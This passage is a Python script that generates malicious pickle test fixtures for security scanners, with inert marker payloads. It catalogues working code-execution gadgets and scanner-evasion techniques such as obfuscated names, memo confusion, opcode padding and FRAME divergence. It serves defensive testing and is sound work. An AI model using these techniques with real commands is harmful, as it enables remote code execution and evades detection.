#!/usr/bin/env python3
"""Write the malicious pickle corpus to testdata/pickles/malicious/.

Every fixture is built from raw opcode bytes (see opbytes.py); nothing here
imports pickle or unpickles anything. Payloads are inert markers: the
dangerous callable is real, the arguments only echo/print
"hallmark-test-marker", touch /tmp/hallmark-test-marker*, or connect to
127.0.0.1:9 / a .invalid host.

Output is deterministic: running this twice writes identical bytes.
Families follow docs in ../../../../shared/research/scanners.md sections
6.A (A13), 6.B (B1-B12) and 6.C. manifest.json lists every file with the
minimum severity and the evidence substring a correct scanner must report.

    python3 testdata/pickles/gen/gen_malicious.py
"""

import base64
import json
import os
import struct
import sys

sys.dont_write_bytecode = True
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))

from opbytes import (  # noqa: E402
    BINPERSID, BUILD, DICT, DUP, EMPTY_DICT, EMPTY_LIST, EMPTY_TUPLE, MARK,
    MEMOIZE, NONE, POP, REDUCE, STACK_GLOBAL, STOP, TUPLE, TUPLE2, Build, Call,
    DynGlobal, G, Inst, Method, NewObj, NewObjEx, Obj, Raw, Seq, Writer,
    binbytes, binget, binput, binunicode, dump, ext1, ext2, ext4, frame,
    frame_header, framed, get, global_, long_binput, persid, proto, put,
    reduce, short_binbytes, short_binunicode, stack_global, string_raw, tuple1,
    unicode_, unicode_raw,
)

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = os.path.normpath(os.path.join(HERE, "..", "malicious"))

# Inert payload arguments.
CMD = "echo hallmark-test-marker"
CMD_LIST = ["echo", "hallmark-test-marker"]
PY = "print('hallmark-test-marker')"
MARKER_PATH = "/tmp/hallmark-test-marker.txt"
URL = "http://127.0.0.1:9/hallmark-test-marker"

# marshal.dumps(compile("print('hallmark-test-marker')", '<hallmark>', 'exec'))
# from CPython 3.11.7, frozen here because marshal output is not byte-stable
# between runs (reference flags depend on refcounts).
CODE_MARSHAL = bytes.fromhex(
    "e30000000000000000000000000300000000000000f31c0000009700020065006400"
    "a6010000ab01000000000000000001006401530029027a1468616c6c6d61726b2d74"
    "6573742d6d61726b65724e2901da057072696e74a900f300000000fa0a3c68616c6c"
    "6d61726b3efa083c6d6f64756c653e720600000001000000731c000000f003010101"
    "d800058005d0061cd1001dd4001dd0001dd0001dd0001d7204000000")

# types.CodeType(...) arguments for the same code object (CPython 3.11
# order), as cloudpickle writes them.
CODE_ARGS = (
    0, 0, 0, 0, 3, 0,
    b"\x97\x00\x02\x00e\x00d\x00\xa6\x01\x00\x00\xab\x01\x00\x00\x00\x00"
    b"\x00\x00\x00\x00\x01\x00d\x01S\x00",
    ("hallmark-test-marker", None), ("print",), (),
    "<hallmark>", "<module>", "<module>", 1,
    b"\xf0\x03\x01\x01\x01\xd8\x00\x05\x80\x05\xd0\x06\x1c\xd1\x00\x1d\xd4"
    b"\x00\x1d\xd0\x00\x1d\xd0\x00\x1d\xd0\x00\x1d",
    b"", (), (),
)

OS_SYSTEM = Call(G("os", "system"), CMD)

# The nested payload carried by loader gadgets: protocol 2 os.system(CMD).
INNER = dump(2, OS_SYSTEM)

FIXTURES = []  # (file, family, protocol, min_severity, expect, note, data)


def add(file, family, protocol, sev, expect, note, data):
    assert sev in ("medium", "high", "critical"), sev
    FIXTURES.append((file, family, protocol, sev, expect, note, data))


def each(base, family, sev, expect, note, value, protocols=(0, 2, 4)):
    """One fixture per protocol from a single value tree."""
    for p in protocols:
        v = value(p) if callable(value) else value
        add("%s_p%d.pkl" % (base, p), family, p, sev, expect, note, dump(p, v))


def p4(ops):
    """PROTO 4 + one FRAME around ops (which must end with STOP)."""
    return proto(4) + frame(ops)


def body(protocol, value):
    """Opcode chunks of value at protocol, without PROTO, FRAME or STOP."""
    w = Writer(protocol)
    w.v(value)
    return w.chunks


def stream_without_stop(protocol, value):
    chunks = body(protocol, value)
    head = proto(protocol) if protocol >= 2 else b""
    if protocol >= 4:
        return head + framed(chunks)
    return head + b"".join(chunks)


# ==========================================================================
# 6.B B1: STACK_GLOBAL with computed operands


def b1():
    fam = "6.B B1 computed STACK_GLOBAL operands"

    # modelscan #85 verbatim shape: BUILD slot state sets numpy.prod.a/.b,
    # dotted GLOBALs read them back, PUT/GET feed STACK_GLOBAL.
    data = (proto(5)
            + global_("numpy", "prod")
            + NONE + MARK + unicode_("a") + unicode_("os") + DICT + TUPLE2 + BUILD
            + NONE + MARK + unicode_("b") + unicode_("system") + DICT + TUPLE2 + BUILD
            + POP
            + global_("numpy", "prod.a") + put(0)
            + global_("numpy", "prod.b") + put(1)
            + POP + POP
            + get(0) + get(1) + STACK_GLOBAL
            + unicode_(CMD) + tuple1() + reduce() + STOP)
    add("b1_issue85_verbatim_p5.pkl", fam, 5, "critical", "os.system",
        "modelscan #85: BUILD setattr numpy.prod.a='os', .b='system'; GLOBAL numpy prod.a/prod.b -> "
        "PUT/GET -> STACK_GLOBAL: every value is a literal, so an analyzer that tracks BUILD "
        "state resolves os.system (one that does not must call the operands UNKNOWN)", data)

    # Same trick written the protocol-4 way (STACK_GLOBAL, MEMOIZE, FRAME).
    ops = (stack_global("numpy", "prod") + MEMOIZE                      # memo 0,1,2
           + NONE + EMPTY_DICT + MEMOIZE                                 # 3
           + MARK + short_binunicode("a") + MEMOIZE + short_binunicode("os") + MEMOIZE
           + short_binunicode("b") + MEMOIZE + short_binunicode("system") + MEMOIZE
           + b"u" + TUPLE2 + MEMOIZE + BUILD + POP                       # 4..8
           + stack_global("numpy", "prod.a") + MEMOIZE + POP             # 9,10,11
           + stack_global("numpy", "prod.b") + MEMOIZE + POP             # 12,13,14
           + binget(11) + binget(14) + STACK_GLOBAL + MEMOIZE
           + short_binunicode(CMD) + MEMOIZE + tuple1() + MEMOIZE + reduce() + MEMOIZE
           + STOP)
    add("b1_issue85_stack_global_p4.pkl", fam, 4, "critical", "os.system",
        "modelscan #85 in protocol 4: STACK_GLOBAL('numpy','prod.a') values (set by BUILD) "
        "memoized and fed to a second STACK_GLOBAL -> os.system", p4(ops))

    # Operands are REDUCE results: codecs.decode('bf','rot13') == 'os'.
    w = Writer(4)
    w.v(Call(DynGlobal(Call(G("codecs", "decode"), "bf", "rot13"),
                       Call(G("codecs", "decode"), "flfgrz", "rot13")), CMD))
    add("b1_operands_from_reduce_p4.pkl", fam, 4, "critical", "STACK_GLOBAL",
        "STACK_GLOBAL operands are results of codecs.decode(...,'rot13') calls "
        "('bf'->'os', 'flfgrz'->'system'): not literals, must be UNKNOWN -> critical",
        w.finish())

    # Doyensec picklescan #14: mix BINPUT and MEMOIZE. Real memo index for
    # MEMOIZE is len(memo); a scanner that counts MEMOIZEs sees builtins.print.
    ops = (short_binunicode("system") + binput(0) + POP      # memo {0:system}
           + short_binunicode("print") + MEMOIZE + POP       # real memo[1]; naive memo[0]
           + short_binunicode("os") + binput(1) + POP        # real memo[1]='os'
           + short_binunicode("builtins") + MEMOIZE + POP    # real memo[2]; naive memo[1]
           + binget(1) + binget(0) + STACK_GLOBAL + MEMOIZE  # real os.system
           + short_binunicode(CMD) + MEMOIZE + tuple1() + MEMOIZE + reduce() + MEMOIZE
           + STOP)
    add("b1_memo_index_mixing_p4.pkl", fam, 4, "critical", "os.system",
        "Doyensec #14: BINPUT/MEMOIZE mixed; MEMOIZE index = len(memo) gives GET 1/GET 0 = "
        "('os','system'); counting MEMOIZEs alone gives the decoy ('builtins','print')", p4(ops))

    # GET of keys that were never PUT feeding STACK_GLOBAL.
    ops = (binget(7) + binget(8) + STACK_GLOBAL
           + short_binunicode(CMD) + tuple1() + reduce() + STOP)
    add("b1_missing_memo_key_p4.pkl", fam, 4, "critical", "memo",
        "STACK_GLOBAL operands come from BINGET 7/8 that were never stored: unresolvable "
        "operand must fail closed as critical (CPython raises at the GET)", p4(ops))

    # Payload first, then a GET of a missing key (scanners that abort on the
    # KeyError lose the finding; CPython has already run the payload).
    ops = (stack_global("os", "system") + MEMOIZE + short_binunicode(CMD) + MEMOIZE
           + tuple1() + MEMOIZE + reduce() + MEMOIZE + POP
           + binget(99) + STOP)
    add("b1_missing_memo_after_payload_p4.pkl", fam, 4, "critical", "os.system",
        "os.system call runs, then BINGET 99 of a key never stored raises: the finding must "
        "survive the decode error (keyerror-exploit shape)", p4(ops))

    # Type confusion: non-str STACK_GLOBAL operand after the real payload.
    ops = (stack_global("os", "system") + MEMOIZE + short_binunicode(CMD) + MEMOIZE
           + tuple1() + MEMOIZE + reduce() + MEMOIZE + POP
           + short_binbytes(b"os") + MEMOIZE + short_binunicode("system") + MEMOIZE
           + STACK_GLOBAL + STOP)
    add("b1_stack_global_bytes_operand_p4.pkl", fam, 4, "critical", "os.system",
        "os.system call, then STACK_GLOBAL(b'os','system') with a bytes operand (modelscan "
        "#338 type confusion) that crashes naive scanners; CPython raises after the payload",
        p4(ops))


# ==========================================================================
# 6.B B2: dotted names


def b2():
    fam = "6.B B2 dotted names"
    add("b2_dotted_pathlib_p4.pkl", fam, 4, "critical", "os.system",
        "STACK_GLOBAL('pathlib','os.system'): protocol>=4 walks the dotted name through "
        "the os module pathlib imported", dump(4, Call(G("pathlib", "os.system"), CMD)))

    ops = (global_("pathlib", "os.system") + MEMOIZE + short_binunicode(CMD) + MEMOIZE
           + tuple1() + MEMOIZE + reduce() + MEMOIZE + STOP)
    add("b2_dotted_global_opcode_p4.pkl", fam, 4, "critical", "os.system",
        "GLOBAL opcode 'pathlib' / 'os.system' inside a PROTO 4 stream: the text opcode also "
        "resolves dotted names once the protocol is >= 4", p4(ops))

    v = Call(Call(G("builtins", "dict.get"),
                  Call(G("builtins", "vars"), Call(G("importlib", "import_module"), "os")),
                  "system"), CMD)
    add("b2_dotted_builtins_dict_get_p4.pkl", fam, 4, "critical", "builtins.dict.get",
        "case B: importlib.import_module('os') -> builtins.vars -> STACK_GLOBAL('builtins',"
        "'dict.get')(vars,'system') -> call", dump(4, v))

    size_obj = Build(G("numpy", "size"), (None, {"shape": G("numpy", "__builtins__")}))
    v = Call(Call(G("numpy", "size"), size_obj, "eval"), PY)
    add("b2_dotted_numpy_builtins_p4.pkl", fam, 4, "critical", "numpy.__builtins__",
        "modelscan #330: BUILD sets numpy.size.shape = STACK_GLOBAL('numpy','__builtins__'); "
        "numpy.size(numpy.size,'eval') returns shape['eval'] -> eval(...)", dump(4, v))


# ==========================================================================
# 6.B B3: INST / OBJ / NEWOBJ / NEWOBJ_EX call sites


def b3():
    fam = "6.B B3 INST/OBJ/NEWOBJ call sites"
    each("b3_inst_os_system", fam, "critical", "os.system",
         "INST imports os.system and calls it with the marked arguments in one opcode",
         Inst("os", "system", CMD))
    each("b3_obj_smtplib_popped", fam, "critical", "smtplib.SMTP",
         "OBJ calls smtplib.SMTP('127.0.0.1', 9) (connects) and the result is POPped "
         "(fickling GHSA-mxhj-88fx-4pcv)",
         Seq(Obj(G("smtplib", "SMTP"), "127.0.0.1", 9), None), protocols=(2, 4))
    each("b3_newobj_popen", fam, "high", "subprocess.Popen",
         "NEWOBJ calls subprocess.Popen.__new__(Popen, ['echo', ...]): call site on a "
         "denylisted class", NewObj(G("subprocess", "Popen"), CMD_LIST), protocols=(2, 4))
    each("b3_newobj_ex_popen", fam, "high", "subprocess.Popen",
         "NEWOBJ_EX calls subprocess.Popen.__new__ with args and kwargs",
         NewObjEx(G("subprocess", "Popen"), (CMD_LIST,), {"shell": False}), protocols=(4,))


# ==========================================================================
# 6.B B4: EXT1/EXT2/EXT4 and copyreg.add_extension


def b4():
    fam = "6.B B4 EXT opcodes / copyreg extension registry"
    for name, op in (("ext1", ext1(0x01)), ("ext2", ext2(0x1234)), ("ext4", ext4(0x12345678))):
        each("b4_%s_reduce" % name, fam, "critical", "EXT",
             "%s pushes the global registered under its code in copyreg._extension_registry "
             "(filled by an imported library) and REDUCE calls it" % name.upper(),
             Call(Raw(op), CMD), protocols=(2, 4))
    v = Seq(Call(G("copyreg", "add_extension"), "os", "system", 0xF0),
            Call(Raw(ext1(0xF0)), CMD))
    each("b4_add_extension_ext1", fam, "critical", "copyreg.add_extension",
         "copyreg.add_extension('os','system',240) registers the code, then EXT1 240 + REDUCE "
         "calls os.system without any GLOBAL naming it", v, protocols=(2, 4))


# ==========================================================================
# 6.B B5: BUILD on a module-level function


def b5():
    fam = "6.B B5 BUILD setattr on a global"
    each("b5_build_slotstate_on_function", fam, "high", "numpy.prod",
         "BUILD with slot state (None, {'a': 'os'}) setattr()s on the shared numpy.prod "
         "function object (issue #85 primitive)",
         Build(G("numpy", "prod"), (None, {"a": "os"})))
    each("b5_build_dunder_defaults", fam, "critical", "numpy.load",
         "BUILD slot state sets numpy.load.__defaults__ so allow_pickle defaults to True for "
         "every later numpy.load in the process (dunder slot name)",
         Build(G("numpy", "load"), (None, {"__defaults__": (None, True, True, "ASCII")})))


# ==========================================================================
# 6.B B6: nested pickles


def b6():
    fam = "6.B B6 nested pickles"
    each("b6_nested_pickle_loads", fam, "critical", "_pickle.loads",
         "_pickle.loads(<bytes of a protocol 2 os.system pickle>)",
         Call(G("_pickle", "loads"), INNER))
    each("b6_nested_pickle_base64", fam, "critical", "pickle.loads",
         "pickle.loads(base64.b64decode('<base64 of an os.system pickle>'))",
         Call(G("pickle", "loads"),
              Call(G("base64", "b64decode"), base64.b64encode(INNER).decode("ascii"))))


# ==========================================================================
# 6.B B7: persistent ids


def b7():
    fam = "6.B B7 PERSID/BINPERSID with non-torch ids"
    add("b7_persid_p0.pkl", fam, 0, "high", "PERSID",
        "protocol 0 PERSID with a non-torch id string: the loader's persistent_load decides "
        "what happens", persid("hallmark-test-marker:os.system") + STOP)

    def binpersid(p, pid):
        w = Writer(p)
        w.v(pid)
        w.op(BINPERSID)
        return w.finish()

    for p in (2, 4):
        add("b7_binpersid_tuple_p%d.pkl" % p, fam, p, "high", "PERSID",
            "BINPERSID with a non-torch pid tuple ('module_ref','os','system', cmd)",
            binpersid(p, ("module_ref", "os", "system", CMD)))
        add("b7_binpersid_torch_shape_bad_global_p%d.pkl" % p, fam, p, "high", "os.system",
            "torch-shaped pid ('storage', <storage type>, key, location, numel) whose storage "
            "type slot holds os.system instead of a torch *Storage class",
            binpersid(p, ("storage", G("os", "system"), "0", "cpu", 4)))
    add("b7_binpersid_nested_pickle_p4.pkl", fam, 4, "high", "PERSID",
        "BINPERSID pid ('pickle', <bytes of an os.system pickle>): nested payload hidden in "
        "the persistent id", binpersid(4, ("pickle", INNER)))


# ==========================================================================
# 6.B B8: protocol 0 text encodings


def b8():
    fam = "6.B B8 protocol-0 text encodings"

    def raw(b):
        return Raw(b)

    # getattr(fnmatch.fnmatch, '__globals__')['os'].system(cmd), the dunder
    # spelled with raw-unicode-escape and 'os' with a STRING \x escape.
    v = Call(Call(G("builtins", "getattr"),
                  Call(G("operator", "getitem"),
                       Call(G("builtins", "getattr"), G("fnmatch", "fnmatch"),
                            raw(unicode_raw(rb"\u005f\u005fglobals\u005f\u005f"))),
                       raw(string_raw(rb"'o\x73'"))),
                  raw(unicode_raw(rb"\u0073ystem"))),
             raw(string_raw(rb"'echo \'hallmark-test-marker\''")))
    add("b8_unicode_escape_dunder_p0.pkl", fam, 0, "critical", "builtins.getattr",
        "getattr(fnmatch.fnmatch, V'\\u005f\\u005fglobals\\u005f\\u005f') -> "
        "getitem(S'o\\x73') -> getattr(V'\\u0073ystem'): the dunder and names only appear "
        "after raw-unicode-escape / string-escape decoding", dump(0, v))

    v = Call(Call(G("builtins", "getattr"),
                  Call(G("importlib", "import_module"), raw(string_raw(rb'"o\x73"'))),
                  raw(string_raw(rb"'\x73ystem'"))),
             raw(string_raw(rb"'echo \x68allmark-test-marker'")))
    add("b8_string_escape_import_p0.pkl", fam, 0, "critical", "importlib.import_module",
        "import_module(S\"o\\x73\") -> getattr(S'\\x73ystem') -> call: double- and "
        "single-quoted STRING operands with \\x escapes decode to 'os' / 'system'", dump(0, v))

    # subprocess.Popen(cmd, bufsize=L-1L, None x5, close_fds=I01, shell=I01,
    #                  cwd=None, env=None, universal_newlines=I00)
    v = Call(G("subprocess", "Popen"), CMD, raw(b"L-1L\n"), None, None, None, None, None,
             raw(b"I01\n"), raw(b"I01\n"), None, None, raw(b"I00\n"))
    add("b8_int_long_bool_p0.pkl", fam, 0, "critical", "subprocess.Popen",
        "subprocess.Popen with LONG 'L-1L' bufsize and INT '01'/'00' booleans "
        "(close_fds, shell=True, universal_newlines=False)", dump(0, v))

    data = (global_("os", "system") + b"p0\r\n" + POP
            + b"I7\r\n" + POP
            + b"g0\r\n" + MARK + unicode_(CMD) + TUPLE + REDUCE + STOP + b"\r\n")
    add("b8_crlf_operands_p0.pkl", fam, 0, "critical", "os.system",
        "editor-saved protocol 0: PUT/GET/INT lines end in \\r\\n (CPython's int() and "
        "PyLong_FromString accept the \\r), trailing \\r\\n after STOP", data)

    for p in (0, 2):
        data = ((proto(2) if p == 2 else b"") + global_("__builtin__", "eval")
                + (binunicode(PY) + tuple1() if p == 2 else MARK + unicode_(PY) + TUPLE)
                + REDUCE + STOP)
        add("b8_compat_builtin_eval_p%d.pkl" % p, fam, p, "critical", "builtins.eval",
            "Python 2 module name __builtin__: below protocol 3 fix_imports maps it to "
            "builtins, so the evidence should name builtins.eval", data)


# ==========================================================================
# 6.B B9: stacked streams, payload then garbage / truncation (nullifAI)


def b9():
    fam = "6.B B9 stacked streams"
    benign = {"weights": [0.5, 1.5], "epoch": 3}
    for p in (0, 2, 4):
        add("b9_stacked_streams_p%d.pkl" % p, fam, p, "critical", "os.system",
            "benign model dict pickle, STOP, then a second stream calling os.system "
            "(legacy torch / Unpickler loops read it)", dump(p, benign) + dump(p, OS_SYSTEM))

    fam = "6.B B9 nullifAI payload then broken stream"
    for p in (0, 2, 4):
        add("b9_nullifai_truncated_p%d.pkl" % p, fam, p, "critical", "os.system",
            "os.system call and then EOF with no STOP: pickle.load runs the payload before "
            "failing; parsers that drop the stream lose it", stream_without_stop(p, OS_SYSTEM))
        garbage = bytes(range(0xF0, 0x100)) * 2 + b"hallmark-garbage"
        add("b9_nullifai_garbage_p%d.pkl" % p, fam, p, "critical", "os.system",
            "os.system call followed by garbage bytes (unknown opcodes 0xf0-0xff), no STOP",
            stream_without_stop(p, OS_SYSTEM) + garbage)


# ==========================================================================
# 6.B B10: resource exhaustion with the payload after it


def b10():
    fam = "6.B B10 resource exhaustion"
    payload = b"".join(body(2, OS_SYSTEM))

    data = proto(2) + EMPTY_LIST + (DUP + TUPLE2) * 64 + POP + payload + STOP
    add("b10_dup_tuple_bomb_p2.pkl", fam, 2, "critical", "os.system",
        "64 x (DUP, TUPLE2) builds a 2**64-leaf shared tuple tree in 130 bytes; an analyzer "
        "that copies/expands values blows up before reaching the os.system call", data)

    data = proto(2) + payload + long_binput(0xFFFFFFF0) + STOP
    add("b10_huge_memo_index_p2.pkl", fam, 2, "critical", "os.system",
        "os.system call, then LONG_BINPUT 0xfffffff0: a memo sized by index allocates tens "
        "of GiB", data)

    depth = 100000
    data = (proto(2) + EMPTY_LIST * depth + b"a" * (depth - 1) + POP + payload + STOP)
    add("b10_deep_nesting_p2.pkl", fam, 2, "critical", "os.system",
        "100000 nested lists (EMPTY_LIST x n, APPEND x n-1) before the os.system call: "
        "recursive walkers overflow", data)

    ops = b"".join(body(4, OS_SYSTEM)) + POP
    data = (proto(4) + frame(ops) + b"\x8e" + struct.pack("<Q", 2**62)
            + b"hallmark-test-marker")
    add("b10_huge_binbytes8_after_payload_p4.pkl", fam, 4, "critical", "os.system",
        "os.system call, then BINBYTES8 declaring 2**62 bytes in a tiny file: must not "
        "allocate the declared length, and must keep the finding", data)


# ==========================================================================
# 6.B B11: payload after 1.1 million benign opcodes


def b11():
    fam = "6.B B11 opcode-budget padding"
    pairs = 550000  # 1,100,000 padding opcodes
    note = ("1,100,000 benign 1-byte opcodes (%s pairs) before the os.system call: past "
            "ModelAudit's 1M-opcode analysis budget")
    add("b11_opcode_budget_p0.pkl", fam, 0, "critical", "os.system", note % "NONE+POP",
        (NONE + POP) * pairs + b"".join(body(0, OS_SYSTEM)) + STOP)
    add("b11_opcode_budget_p2.pkl", fam, 2, "critical", "os.system", note % "EMPTY_TUPLE+POP",
        proto(2) + (EMPTY_TUPLE + POP) * pairs + b"".join(body(2, OS_SYSTEM)) + STOP)
    chunks = [NONE, POP] * pairs + body(4, OS_SYSTEM) + [STOP]
    add("b11_opcode_budget_p4.pkl", fam, 4, "critical", "os.system",
        note % "NONE+POP" + ", split into 64 KiB FRAMEs", proto(4) + framed(chunks))


# ==========================================================================
# 6.B B12: payload then exception (EOP-style)


def b12():
    fam = "6.B B12 payload then exception"
    each("b12_payload_then_exception", fam, "critical", "os.system",
         "os.system runs, then builtins.int('hallmark-test-marker') raises ValueError so a "
         "framework loader can catch it and fall back to another load path",
         Seq(OS_SYSTEM, Call(G("builtins", "int"), "hallmark-test-marker")))


# ==========================================================================
# 6.A A13: FRAME boundary divergence


def a13():
    fam = "6.A A13 FRAME boundary divergence"
    blob = bytes(140000)  # frame must exceed CPython's PREFETCH (128 KiB) to be read exactly
    # {'weights': blob, 'meta': <bytes>} opened with MARK; SETITEMS comes after the frame.
    model = (EMPTY_DICT + MEMOIZE + MARK + short_binunicode("weights") + MEMOIZE
             + binbytes(blob) + MEMOIZE + short_binunicode("meta") + MEMOIZE)
    hidden = (short_binunicode("os") + short_binunicode("system") + STACK_GLOBAL
              + short_binunicode(CMD) + tuple1() + reduce())

    # The frame ends after 'B' and the first two bytes of its 4-byte length.
    # Linear reader: length = 2 + len(hidden) + 1; the bytes object swallows
    # b'\0\0' + hidden + POP, then SETITEMS, STOP: a plain two-key dict.
    # CPython's C unpickler reading a file: the frame buffer is exhausted, so
    # the length is re-read from the 4 bytes after the frame (0), the two
    # in-frame length bytes are discarded, and hidden + POP execute before
    # the same SETITEMS, STOP.
    in_frame = model + b"B" + struct.pack("<H", 2 + len(hidden) + 1)
    after = b"\x00\x00" + b"\x00\x00" + hidden + POP + b"u" + STOP
    add("a13_frame_binbytes_divergence_p4.pkl", fam, 4, "critical", "FRAME",
        "FRAME (140 KiB) ends inside a BINBYTES length: a linear reader sees a dict of two "
        "bytes values, CPython's C unpickler reading a file re-reads the length after the "
        "frame end and executes STACK_GLOBAL os.system", proto(4) + frame(in_frame) + after)

    # A FRAME opened inside another frame. C unpickler: the inner frame is
    # longer than what is left of the outer buffer, so it is read from the
    # file after the outer frame and the rest of the outer frame is skipped.
    # Linear reader: BINBYTES swallows the os.system opcodes as 'meta'.
    q = hidden + b"u" + STOP
    rest = b"B" + struct.pack("<I", len(hidden))
    outer = model + frame_header(len(q)) + rest
    add("a13_frame_nested_p4.pkl", fam, 4, "critical", "FRAME",
        "FRAME opened inside a 140 KiB FRAME: linear view BINBYTES swallows the os.system "
        "opcodes, C unpickler takes the inner frame from after the outer one and runs them",
        proto(4) + frame(outer) + q)


# ==========================================================================
# 6.C gadget families (each in protocol 0, 2 and 4)


def gadgets():
    g = "6.C builtins"
    each("g_builtins_eval", g, "critical", "builtins.eval", "builtins.eval(print marker)",
         Call(G("builtins", "eval"), PY))
    each("g_builtins_exec", g, "critical", "builtins.exec", "builtins.exec(print marker)",
         Call(G("builtins", "exec"), PY))
    each("g_builtins_compile", g, "critical", "builtins.compile",
         "types.FunctionType(builtins.compile(src,'<hallmark>','exec'), {})() runs the code",
         Call(Call(G("types", "FunctionType"),
                   Call(G("builtins", "compile"), PY, "<hallmark>", "exec"), {})))
    each("g_builtins_import", g, "critical", "builtins.__import__",
         "case C: getattr(__import__('os'), 'system')(cmd)",
         Call(Call(G("builtins", "getattr"), Call(G("builtins", "__import__"), "os"), "system"),
              CMD))
    each("g_builtins_getattr_dunder", g, "critical", "builtins.getattr",
         "getattr(fnmatch.fnmatch, '__globals__')['os'] -> getattr(os, 'system')(cmd)",
         Call(Call(G("builtins", "getattr"),
                   Call(G("operator", "getitem"),
                        Call(G("builtins", "getattr"), G("fnmatch", "fnmatch"), "__globals__"),
                        "os"),
                   "system"), CMD))
    each("g_builtins_vars", g, "critical", "builtins.vars",
         "vars(posixpath.os)['system'](cmd): vars() turns a module into a dict of its callables",
         Call(Call(G("operator", "getitem"), Call(G("builtins", "vars"), G("posixpath", "os")),
                   "system"), CMD))
    each("g_builtins_globals", g, "critical", "builtins.globals",
         "exec(src, globals()): globals() hands over the calling frame's namespace",
         Call(G("builtins", "exec"), PY, Call(G("builtins", "globals"))))
    each("g_builtins_map_lazy", g, "critical", "os.system",
         "list(map(os.system, [cmd])): map defers the call, list() forces it",
         Call(G("builtins", "list"), Call(G("builtins", "map"), G("os", "system"), [CMD])))

    g = "6.C import trampolines"
    each("g_importlib_import_module", g, "critical", "importlib.import_module",
         "getattr(importlib.import_module('os'), 'system')(cmd)",
         Call(Call(G("builtins", "getattr"), Call(G("importlib", "import_module"), "os"),
                   "system"), CMD))
    each("g_pkgutil_resolve_name", g, "critical", "pkgutil.resolve_name",
         "pkgutil.resolve_name('os:system')(cmd) (GHSA-vvpj-8cmc-gx39)",
         Call(Call(G("pkgutil", "resolve_name"), "os:system"), CMD))
    each("g_pydoc_locate", g, "critical", "pydoc.locate",
         "pydoc.locate('os.system')(cmd)", Call(Call(G("pydoc", "locate"), "os.system"), CMD))

    g = "6.C operator/functools trampolines"

    def attrgetter_chain(mod):
        gl = Call(Call(G(mod, "attrgetter"), "__globals__"), G("fnmatch", "fnmatch"))
        os_mod = Call(Call(G(mod, "itemgetter"), "os"), gl)
        return Call(Call(Call(G(mod, "attrgetter"), "system"), os_mod), CMD)

    each("g_operator_attrgetter", g, "critical", "operator.attrgetter",
         "attrgetter('__globals__')(fnmatch.fnmatch) -> itemgetter('os') -> "
         "attrgetter('system') -> call", attrgetter_chain("operator"))
    each("g_operator_methodcaller", g, "critical", "operator.methodcaller",
         "methodcaller('system', cmd)(posixpath.os) calls os.system",
         Call(Call(G("operator", "methodcaller"), "system", CMD), G("posixpath", "os")))
    each("g_functools_partial", g, "critical", "os.system",
         "functools.partial(os.system, cmd)(): partial judged by its denylisted target",
         Call(Call(G("functools", "partial"), G("os", "system"), CMD)))

    g = "6.C direct execution"
    simple = [
        ("g_os_system", "os", "system", (CMD,), "os.system(cmd)"),
        ("g_posix_system", "posix", "system", (CMD,), "posix.system(cmd): os under its C name"),
        ("g_subprocess_popen", "subprocess", "Popen", (CMD_LIST,), "subprocess.Popen(['echo', ...])"),
        ("g_runpy_run_code", "runpy", "_run_code", (PY, {}),
         "runpy._run_code(src, {}) execs a source string"),
        ("g_timeit_timeit", "timeit", "timeit", (PY, "pass", G("time", "perf_counter"), 1),
         "timeit.timeit(stmt, 'pass', time.perf_counter, 1) execs stmt"),
        ("g_cprofile_run", "cProfile", "run", (PY,), "cProfile.run(src) execs src"),
        ("g_pdb_run", "pdb", "run", (PY,), "pdb.run(src) execs src under the debugger"),
        ("g_idlelib_calltip_get_entity", "idlelib.calltip", "get_entity", (PY,),
         "idlelib.calltip.get_entity(expr) evals expr"),
        ("g_torch_collect_env_run", "torch.utils.collect_env", "run", (CMD,),
         "torch.utils.collect_env.run(cmd) runs a shell command"),
        ("g_torch_inductor_compile_file", "torch._inductor.codecache", "compile_file",
         (["/dev/null"], "/dev/null", CMD_LIST),
         "torch._inductor.codecache.compile_file(inputs, output, cmd) runs cmd"),
        ("g_numpy_runstring", "numpy.testing._private.utils", "runstring", (PY, {}),
         "numpy.testing._private.utils.runstring(src, {}) execs src"),
        ("g_mailcap_findmatch", "mailcap", "findmatch",
         ({"text/plain": [{"view": "true", "test": CMD}]}, "text/plain"),
         "mailcap.findmatch runs the entry's 'test' command with os.system (S4)"),
        ("g_posixsubprocess_fork_exec", "_posixsubprocess", "fork_exec",
         (CMD_LIST, ["/bin/echo"], True, (), None, None, -1, -1, -1, -1, -1, -1, -1, -1,
          False, False, -1, None, None, None, -1, None, False),
         "_posixsubprocess.fork_exec(args, ...) forks and execs directly"),
        ("g_multiprocessing_spawnv_passfds", "multiprocessing.util", "spawnv_passfds",
         ("/bin/echo", CMD_LIST, []), "multiprocessing.util.spawnv_passfds(path, args, fds)"),
    ]
    for base, mod, name, args, note in simple:
        each(base, g, "critical", mod + "." + name, note, Call(G(mod, name), *args))
    each("g_code_interactive_runsource", g, "critical", "code.InteractiveInterpreter",
         "code.InteractiveInterpreter.runsource(InteractiveInterpreter(), src); protocol 4 uses "
         "the dotted name, 0/2 use builtins.getattr(class, 'runsource')",
         Call(Method("code", "InteractiveInterpreter", "runsource"),
              Call(G("code", "InteractiveInterpreter")), PY))
    each("g_trace_run", g, "critical", "trace.Trace",
         "trace.Trace.run(Trace(), src) execs src",
         Call(Method("trace", "Trace", "run"), Call(G("trace", "Trace")), PY))
    each("g_lib2to3_make_label", g, "critical", "lib2to3.pgen2.pgen.ParserGenerator",
         "ParserGenerator.make_label(None, Grammar(), label) evals a label starting with a quote",
         Call(Method("lib2to3.pgen2.pgen", "ParserGenerator", "make_label"), None,
              Call(G("lib2to3.pgen2.grammar", "Grammar")),
              "'' or print('hallmark-test-marker') or 'x'"))
    each("g_asyncio_subprocess_start", g, "critical",
         "asyncio.unix_events._UnixSubprocessTransport",
         "_UnixSubprocessTransport._start(None, cmd, shell=True, ...) runs subprocess.Popen "
         "before touching self",
         Call(Method("asyncio.unix_events", "_UnixSubprocessTransport", "_start"),
              None, CMD, True, None, None, None, 0))

    g = "6.C package installers"
    each("g_pip_main", g, "critical", "pip.main",
         "pip.main(['install', ...]) (CVE-2025-1716); --no-index --dry-run marker package",
         Call(G("pip", "main"), ["install", "--no-index", "--dry-run", "hallmark-test-marker"]))
    each("g_ensurepip_run_pip", g, "critical", "ensurepip._run_pip",
         "ensurepip._run_pip(['--version']) runs pip in a subprocess",
         Call(G("ensurepip", "_run_pip"), ["--version"]))
    each("g_venv_create", g, "critical", "venv.create",
